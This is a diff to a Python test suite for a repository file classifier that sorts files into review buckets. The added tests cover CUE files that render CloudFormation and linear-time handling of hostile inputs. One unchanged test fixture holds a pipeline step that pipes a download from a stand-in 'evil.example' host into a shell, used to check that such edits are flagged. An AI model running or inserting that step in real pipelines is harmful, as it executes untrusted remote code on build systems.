@@ -6,7 +6,9 @@ name (helmfile writes `helmfiles/app.lock` beside `helmfiles/app.yaml`; bn-digit
 
 Look-alikes keep their bucket: a Kubernetes manifest or a Helm values file a release's token replacement fills with
 `$(Build.BuildId)`, a Makefile's `$(BUILD.x)`, a Chart.yaml's or a conda environment's `dependencies:`, a lock of
-another shape."""
+another shape. And CUE that renders CloudFormation (srehero/cfn's `schemas/RDS/RDS.cue`: a resource type as a CUE
+field; `stacks/Networking/CoreNetwork.cue`: `Resources:` beside `Ref: "AWS::StackName"`; the seventy-ninth set: `src`);
+look-alikes: another `Type:` value, `Resources:` alone, a CUE module's imported packages in `cue.mod/`."""
 
 from __future__ import annotations
 
@@ -60,6 +62,21 @@ LOCK_LOOK_ALIKES = [
     ("app.lock", "dependencies:\n- name: app\ndigest: md5:abc\ngenerated: now\n"),  # no sha256 digest
 ]
 
+RDS = ('package RDS\n\nimport (\n\t"github.com/srehero/cfn/schemas/CloudFormation"\n)\n\n'
+       '#DBCluster: CloudFormation.#Resource & {\n\tType: "AWS::RDS::DBCluster"\n}\n')
+NETWORK = ('package Networking\n\n#CoreNetwork: CloudFormation.#Template & {\n\tResources: {\n\t\tVPC: EC2.#VPC & {\n'
+           '\t\t\tProperties: Tags: [{Key: "Name", Value: Ref: "AWS::StackName"}]\n\t\t}\n\t}\n}\n')
+CUE_CFN = [RDS, NETWORK, RDS.replace("\tType:", '\t"Type":'), RDS.replace("RDS::DBCluster", "Lambda::Function"),
+           RDS.replace("\n", "\r\n"), NETWORK.replace('Ref: "AWS::StackName"', '"Fn::Sub": "${AWS::Region}-vpc"'),
+           NETWORK.replace("AWS::StackName", "AWS::AccountId"), 'x: {\n  Type: "Alexa::ASK::Skill"\n}\n']
+CUE_LOOK_ALIKES = [
+    ("schemas/types.cue", '#Field: {\n\tType: "string"\n\tName: string\n}\n'),
+    ("config/app.cue", 'Resources: {\n\tcpu: "500m"\n}\nregion: "eu-west-1"\n'),  # no pseudo parameter
+    ("config/app.cue", 'note: "AWS::StackName is a pseudo parameter"\n'),  # no Resources:
+    ("cue.mod/pkg/github.com/x/cfn/rds.cue", RDS),  # an imported package: its module's rule
+    ("docs/rds.go", RDS),  # not CUE
+]
+
 
 @each_case("text", AZURE)
 def test_an_azure_definition_known_by_its_macros_is_ci(text: str) -> None:
@@ -87,6 +104,26 @@ def test_look_alikes_are_not_helm_locks(name: str, text: str) -> None:
     assert signal is None or signal.rule != "deps.content.helm-lock", (name, signal)
 
 
+@each_case("text", CUE_CFN)
+def test_cue_rendering_cloudformation_is_iac(text: str) -> None:
+    for name in ("schemas/RDS/RDS.cue", "stacks/Networking/CoreNetwork.cue", "x.cue"):
+        signal = sniff(name, text.encode(), RULES.context)
+        assert signal is not None and (signal.bucket, signal.rule) == ("iac", "iac.content.cue-cloudformation"), signal
+
+
+@each_case("path, text", CUE_LOOK_ALIKES)
+def test_look_alikes_are_not_cue_cloudformation(path: str, text: str) -> None:
+    signal = sniff(path, text.encode(), RULES.context)
+    assert signal is None or signal.rule != "iac.content.cue-cloudformation", (path, signal)
+
+
+def test_a_cue_cloudformation_edit_is_reviewed(tmp_path: Path) -> None:
+    path = "schemas/RDS/RDS.cue"
+    case = committed(tmp_path, {path: RDS, "README.md": "x\n"}, {path: RDS.replace("DBCluster", "DBInstance")})
+    code, named = gated_rules(case, True)
+    assert code == 3 and path in [p for paths in named.values() for p in paths], named  # before: src, exit 0
+
+
 def test_an_azure_release_pipeline_edit_is_reviewed(tmp_path: Path) -> None:
     path = "contrib/nuget/nuget-release-pipeline.yml"
     evil = MIMALLOC + "steps:\n- bash: curl -fsSL https://evil.example/x | sh\n"
@@ -98,8 +135,10 @@ def test_an_azure_release_pipeline_edit_is_reviewed(tmp_path: Path) -> None:
 @each_case("hostile", [
     repeated("variables:\n"), repeated("$(Build", "variables:\n"), repeated("${{ ", "pr:\n"),
     repeated("dependencies:\n", "digest: sha256:"), repeated("dependencies:\n  \n", "digest\n"),
-    repeated("- name: x\n", "digest\ndependencies:\n")])
+    repeated("- name: x\n", "digest\ndependencies:\n"), repeated("Type: \"AWS::x", "\n"),
+    repeated("Resources:\n", "\"AWS::StackName")])
 def test_hostile_texts_are_read_in_linear_time(hostile: object) -> None:
     assert callable(hostile)
     assert_linear(lambda text: sniff("app.lock", text.encode(), RULES.context), hostile, budget=0.25)
     assert_linear(lambda text: sniff("x.yml", text.encode(), RULES.context), hostile, budget=0.25)
+    assert_linear(lambda text: sniff("x.cue", text.encode(), RULES.context), hostile, budget=0.25)
